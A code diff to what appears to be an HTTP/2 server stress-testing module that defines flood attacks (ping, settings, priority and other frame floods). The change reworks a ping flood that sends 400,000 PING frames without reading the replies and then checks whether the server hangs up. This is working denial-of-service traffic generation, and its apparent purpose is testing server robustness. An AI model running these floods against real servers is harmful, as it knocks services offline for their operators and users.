@@ -3,6 +3,7 @@
 Each attack is a function of a Target and sends until the server ends the connection or all is sent;
 it returns an Outcome: how many frames were sent, what came back, how it ended. Nothing is judged here.
 """
+import contextlib
 import select
 import socket
 import ssl
@@ -354,19 +355,27 @@ FLOODS = [ping_flood, settings_flood, large_settings, priority_flood, window_upd
           empty_data_flood, unknown_frame_flood]
 
 
-def ping_flood_unread(target, n=400000):
-    """The answers are never read: what waits for the attacker must have a bound."""
+def hangs_up(sock, seconds):
+    """Whether the peer ends the connection by then; nothing is read."""
+    poll = select.poll()
+    poll.register(sock, select.POLLRDHUP)
+    return bool(poll.poll(seconds * 1000))
+
+
+def ping_flood_unread(target, n=400000, patience_s=20):
+    """The answers are never read: what waits for the attacker must have a bound.
+
+    That all could be sent says nothing: the system's buffers may have taken it."""
     outcome = Outcome()
     ping = raw_frame(6, 0, 0, b"12345678") * 512
     with target.connect() as sock:
-        sock.settimeout(2)
-        try:
+        sock.settimeout(patience_s)
+        with contextlib.suppress(OSError):
             sock.sendall(PREFACE + raw_frame(4, 0, 0))
             for _ in range(n // 512):
                 sock.sendall(ping)
                 outcome.n_sent += 512
-        except (OSError, ssl.SSLError):
-            outcome.closed = True
+        outcome.closed = hangs_up(sock, patience_s)
     return outcome
 
 
